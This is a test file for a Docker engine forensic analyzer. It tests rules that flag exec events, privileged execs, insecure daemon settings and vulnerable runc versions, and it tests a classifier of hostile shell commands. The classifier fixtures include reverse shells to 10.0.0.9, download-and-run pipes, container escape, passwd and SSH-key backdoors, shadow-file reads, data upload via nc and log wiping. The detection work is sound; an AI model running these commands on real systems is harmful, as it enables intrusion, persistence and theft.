import { describe, expect, it } from 'vitest';
import engine, { engineRules } from '../../../../src/main/analyze/analyzers/engine';
import { commandSigns } from '../../../../src/main/analyze/analyzers/lib/commands';
import {
  compareVersions,
  isAffected,
  parseVersion,
  WEAKNESSES,
} from '../../../../src/main/analyze/analyzers/lib/engine/versions';
import { analyze, byRule, type Given, WEB } from '../kit';

const AT = 1_795_579_762;
let tick = 0;

/** A line as Docker 26 writes it. */
function event(Action: string, attributes: Record<string, unknown> = {}, more: object = {}): string {
  tick++;
  return JSON.stringify({
    Type: 'container',
    Action,
    Actor: { ID: WEB.id, Attributes: { image: 'shop', name: 'web', ...attributes } },
    scope: 'local',
    time: AT + tick,
    timeNano: (AT + tick) * 1e9,
    ...more,
  });
}

const events = (...lines: string[]): Given => ({ collector: 'engine.events', content: `${lines.join('\n')}\n` });
const exec = (command: string, execID = 'e1') => [
  event(`exec_create: ${command}`, { execID }),
  event(`exec_start: ${command}`, { execID }),
  event('exec_die', { execID, exitCode: '0' }),
];
const record = (more: object = {}, process: object = {}) =>
  JSON.stringify({
    ID: 'e1',
    Running: false,
    Pid: 42,
    ProcessConfig: {
      tty: false,
      entrypoint: 'sh',
      arguments: ['-c', 'id'],
      privileged: false,
      user: 'root',
      ...process,
    },
    ...more,
  });
const execs = (...lines: string[]): Given => ({ collector: 'container.execs', content: lines.join('\n') });
const version = (...components: [string, string][]): Given => ({
  collector: 'engine.version',
  content: { Version: '26.1.5', Components: components.map(([Name, Version]) => ({ Name, Version, Details: {} })) },
});
const info = (content: object): Given => ({ collector: 'engine.info', content });
const other = (Type: string, Action: string) =>
  event(Action, {}, { Type, Actor: { ID: 'thing', Attributes: { name: 'x' } } });

/** Rule; exhibits that meet it; exhibits that nearly do. */
const TABLE: [rule: string, hit: Given[], miss: Given[]][] = [
  [
    'engine.events-cut',
    [events(...Array.from({ length: 256 }, () => event('start')))],
    [events(...Array.from({ length: 255 }, () => event('start')))],
  ],
  ['engine.exec', [events(...exec('ls /'))], [events(event('exec_die', { execID: 'e' }), event('start'))]],
  ['engine.container-removed', [events(event('create'), event('destroy'))], [events(event('die'), event('stop'))]],
  [
    'engine.copied-in',
    [events(event('extract-to-dir', { path: '/tmp' }))],
    [events(event('archive-path', { path: '/tmp' }))],
  ],
  ['engine.copied-out', [events(event('export'))], [events(event('extract-to-dir'))]],
  ['engine.committed', [events(event('commit', { comment: '' }))], [events(event('rename'))]],
  ['engine.image-deleted', [events(other('image', 'delete'))], [events(other('image', 'untag'))]],
  ['engine.volume-removed', [events(other('volume', 'destroy'))], [events(other('volume', 'unmount'))]],
  ['engine.plugin', [events(other('plugin', 'enable'))], [events(other('plugin', 'remove'))]],
  ['engine.exec-privileged', [execs(record({}, { privileged: true }))], [execs(record())]],
  ['engine.exec-record', [execs(record())], [events(...exec('sh -c id')), execs(record())]],
  [
    'engine.old-version',
    [version(['runc', '1.1.11'])],
    [version(['runc', '1.3.3'], ['containerd', '1.7.24'], ['Engine', '1.0.0'])],
  ],
  [
    'engine.open-api',
    [
      info({
        Warnings: [
          'WARNING: API is accessible on http://0.0.0.0:2375 without encryption.\n         Access to the remote API',
        ],
      }),
    ],
    [info({ Warnings: ['WARNING: No swap limit support'] })],
  ],
  [
    'engine.no-seccomp',
    [info({ SecurityOptions: ['name=apparmor'] })],
    [info({ SecurityOptions: ['name=seccomp,profile=builtin'] })],
  ],
  ['engine.no-logs', [info({ LoggingDriver: 'none' })], [info({ LoggingDriver: 'json-file' })]],
  [
    'engine.insecure-registry',
    [info({ RegistryConfig: { IndexConfigs: { 'r.example:5000': { Secure: false } } } })],
    [
      info({
        RegistryConfig: {
          InsecureRegistryCIDRs: ['::1/128', '127.0.0.0/8'],
          IndexConfigs: { 'docker.io': { Secure: true } },
        },
      }),
    ],
  ],
  [
    'engine.runtime-path',
    [info({ Runtimes: { runc: { path: 'runc' }, x: { path: '/tmp/runc' } } })],
    [info({ Runtimes: { runc: { path: 'runc' }, nvidia: { path: '/usr/bin/nvidia-container-runtime' } } })],
  ],
];

describe('rules on the engine', () => {
  it.each(TABLE)('%s', async (rule, hit, miss) => {
    const result = await analyze(hit, [engine]);
    expect(byRule(result, rule), JSON.stringify(result)).toHaveLength(1);
    expect(result.unreadable).toEqual([]);
    expect(byRule(await analyze(miss, [engine]), rule)).toEqual([]);
  });

  it('has a row in this table for every rule', () => {
    expect(TABLE.map(([rule]) => rule).sort()).toEqual(engineRules.map(({ id }) => id).sort());
  });
});

describe('commands through the API', () => {
  it('are told with their start, their end and what the engine remembers', async () => {
    const given = [events(event('start'), ...exec('sh -c id')), execs(record({ Running: true }, { privileged: true }))];
    const result = await analyze(given, [engine]);
    const [finding] = byRule(result, 'engine.exec');
    expect(finding?.target).toEqual(WEB);
    expect(finding?.title).toBe('A shell was started through the engine');
    expect(finding?.claim).toMatch(
      /"sh -c id".*as user root, privileged and still running as process 42.*exit status 0/,
    );
    expect(finding?.cites.map(({ locator }) => locator)).toEqual(['line:2', 'line:3', 'line:4', 'line:1']);
  });

  it('are counted, and told once', async () => {
    const lines = [1, 2, 3].flatMap((n) => exec('pg_isready', `e${n}`));
    const [finding, ...others] = byRule(await analyze([events(...lines)], [engine]), 'engine.exec');
    expect(others).toEqual([]);
    expect(finding?.severity).toBe('low');
    expect(finding?.claim).toContain('3 times in all');
    expect(finding?.cites.map(({ locator }) => locator)).toEqual(['line:1', 'line:2', 'line:3']);
  });

  it('are the same finding whether they are seen by one collection or by two', async () => {
    const lines = exec('sh');
    const once = await analyze([events(...lines)], [engine]);
    const twice = await analyze([events(...lines), events(...lines, event('start'))], [engine]);
    expect(twice.findings).toEqual(once.findings);
  });

  it('are not those of another host', async () => {
    const given = [
      events(...exec('sh -c id', 'a')),
      { ...execs(record({ ID: 'a' })), host: 'host-2', target: { ...WEB, id: 'd'.repeat(64) } },
    ];
    expect(byRule(await analyze(given, [engine]), 'engine.exec-record')).toHaveLength(1);
  });

  it('are no finding where they are the configured health check', async () => {
    const Test = ['CMD-SHELL', 'curl -f http://localhost/'];
    const given: Given[] = [
      events(...exec('/bin/sh -c curl -f http://localhost/'), ...exec('/bin/sh -c curl -f http://localhost/x', 'e2')),
      { collector: 'container.inspect', content: { Config: { Healthcheck: { Test } } } },
    ];
    const found = byRule(await analyze(given, [engine]), 'engine.exec');
    expect(found).toHaveLength(1);
    expect(found[0]?.claim).toContain('localhost/x');
  });

  it('never show a secret whole', async () => {
    const result = await analyze([events(...exec('mysqldump -phunter2hunter --all'))], [engine]);
    expect(JSON.stringify(result)).not.toContain('hunter2hunter');
  });
});

describe('hostile events', () => {
  it('reports lines that are none by their number, and reads the others', async () => {
    const content = ['{', '7', '{"Type":"container"}', ...exec('sh'), '{"Type":"cont'].join('\n');
    const result = await analyze([{ collector: 'engine.events', content, partial: true }], [engine]);
    expect(byRule(result, 'engine.exec')[0]?.cites[0]?.locator).toBe('line:4');
    const reasons = result.unreadable.map(({ reason }) => reason).sort();
    expect(reasons).toHaveLength(4);
    expect(reasons.map((reason) => reason.slice(0, 6))).toEqual(['Line 1', 'Line 2', 'Line 3', 'Line 7']);
    expect(reasons[3]).toContain('only a part');
  });

  it('survives times, names and attributes that are none', async () => {
    const lines = [
      event('exec_create: \u001b[31msh\u202e', { name: '\u202eweb', execID: '__proto__' }),
      event('exec_create: ', { execID: null }, { timeNano: 1e300, time: -5 }),
      event('destroy', { image: { a: 1 } }, { Actor: { ID: '__proto__', Attributes: null } }),
    ];
    const result = await analyze([events(...lines)], [engine]);
    expect(result.findings).toHaveLength(3);
    expect(result.unreadable).toEqual([]);
    for (const { claim } of result.findings) expect(claim).not.toMatch(/[\u0000-\u001f\u202e]/);
    expect(JSON.stringify(result.findings)).toContain('an unknown time');
  });

  it('takes a hundred thousand events in a moment', async () => {
    const lines = Array.from({ length: 100_000 }, (_, i) => event(`exec_create: sh -c ${i % 50}`, { execID: `e${i}` }));
    const started = Date.now();
    const result = await analyze([events(...lines)], [engine]);
    expect(byRule(result, 'engine.exec')).toHaveLength(50);
    expect(Date.now() - started).toBeLessThan(15_000);
  });
});

describe('versions', () => {
  it.each([
    ['1.1.15+ds1-2+b4', [1, 1, 15], undefined],
    ['v1.7.24', [1, 7, 24], undefined],
    ['1.4.0-rc.2+dev', [1, 4, 0], 2],
    ['1.0.0~rc93', [1, 0, 0], 93],
    ['27.0', [27, 0, 0], undefined],
  ])('reads %s', (given, numbers, candidate) => {
    expect(parseVersion(given)).toEqual({ numbers, candidate });
  });

  it.each(['', 'unknown', 'dev', '9'.repeat(400)])('reads nothing in %j', (given) => {
    expect(parseVersion(given)).toBeUndefined();
  });

  it('puts a candidate before its release', () => {
    const [a, b, c] = ['1.4.0-rc.3', '1.4.0', '1.4.0-rc.10'].map((text) => parseVersion(text));
    if (!a || !b || !c) throw new Error('not read');
    expect(compareVersions(a, b)).toBeLessThan(0);
    expect(compareVersions(a, c)).toBeLessThan(0);
    expect(compareVersions(b, b)).toBe(0);
  });

  it.each([
    ['1.1.15', true],
    ['1.2.7', true],
    ['1.2.8', false],
    ['1.3.2', true],
    ['1.3.3', false],
    ['1.4.0-rc.2', true],
    ['1.4.0-rc.3', false],
    ['1.4.0', false],
    ['2.0.0', false],
  ])('runc %s is affected by the mounts of 2025: %s', (given, expected) => {
    const read = parseVersion(given);
    expect(read && isAffected(read, WEAKNESSES[0]?.fixed ?? [])).toBe(expected);
  });
});

describe('what a command does', () => {
  it.each([
    ['reverse-shell', 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1', 'ls /dev/tcp'],
    ['reverse-shell', 'nc -e /bin/sh 10.0.0.9 4444', 'nc -z db 5432'],
    [
      'reverse-shell',
      "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'",
      'python3 socket_server.py',
    ],
    ['reverse-shell', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f', 'mkfifo /tmp/f'],
    ['reverse-shell', 'socat tcp:10.0.0.9:4444 exec:bash', 'socat tcp-listen:80 tcp:db:80'],
    ['download-and-run', 'curl -fsSL http://x.example/setup.sh | sh', 'curl http://x.example | jq .'],
    ['download-and-run', 'wget -O /tmp/a http://x && chmod +x /tmp/a', 'wget -O /tmp/a http://x'],
    ['download-and-run', 'bash <(curl -s http://x)', 'bash curl.sh'],
    ['encoded', 'echo aWQ= | base64 -d | sh', 'echo aWQ= | base64 -d'],
    ['decoded', 'echo aWQ= | base64 -d >/tmp/x', 'base64 file >out'],
    ['hidden-file', 'echo x >/dev/shm/.k', 'echo x >/tmp/k.txt'],
    ['miner', '/x -o stratum+tcp://pool:3333', '/x --substratum'],
    ['escape', 'nsenter -t 1 -m sh', 'nsenter -t 123 -m sh'],
    ['engine-api', 'curl --unix-socket /var/run/docker.sock http://x/', 'cat docker.socket.txt'],
    ['account', 'echo x::0:0::/:/bin/sh >> /etc/passwd', 'cat /etc/passwd'],
    ['ssh-key', 'cat key >> /root/.ssh/authorized_keys', 'cat /root/.ssh/known_hosts'],
    ['cron', 'crontab /tmp/x', 'crontab -l'],
    ['preload', 'LD_PRELOAD=/tmp/x.so id', 'echo $LD_PRELOAD'],
    ['setuid', 'chmod u+s /tmp/sh', 'chmod 0755 /tmp/sh'],
    ['setuid', 'chmod 4755 /tmp/sh', 'chmod +x /tmp/sh'],
    ['history', 'history -c', 'history 10'],
    ['history', 'ln -sf /dev/null /root/.bash_history', 'cat /root/.bash_history'],
    ['logs', 'rm -rf /var/log/nginx', 'tail -f /var/log/nginx/access.log'],
    ['upload', 'curl -T /tmp/x.tgz http://x/', 'curl -t x http://x/'],
    ['upload', 'tar cz /srv | nc 10.0.0.9 80', 'tar cz /srv > x'],
    ['tunnel', 'ssh -N -R 2222:localhost:22 a@b', 'ssh -N a@b'],
    ['credentials', 'cat /etc/shadow', 'cat /etc/shadows'],
    ['metadata', 'curl http://169.254.169.254/latest/', 'curl http://169.254.1.1/'],
    ['timestomp', 'touch -d 2020-01-01 /x', 'touch /x'],
    ['immutable', 'chattr +i /etc/passwd', 'chattr -i /etc/passwd'],
    ['scanner', 'nmap -sS 10.0.0.0/8', 'cat nmap.txt'],
  ])('%s: %s, but not %s', (id, hit, miss) => {
    expect(commandSigns(hit).map((sign) => sign.id)).toContain(id);
    expect(commandSigns(miss).map((sign) => sign.id)).not.toContain(id);
  });

  it.each(['curl ', 'nc -', 'python socket ', '/dev/tcp/', 'base64 -d ', 'tar |', 'a'])(
    'takes linear time for %j again and again',
    (part) => {
      const started = Date.now();
      commandSigns(part.repeat(200_000));
      expect(Date.now() - started).toBeLessThan(3000);
    },
  );
});
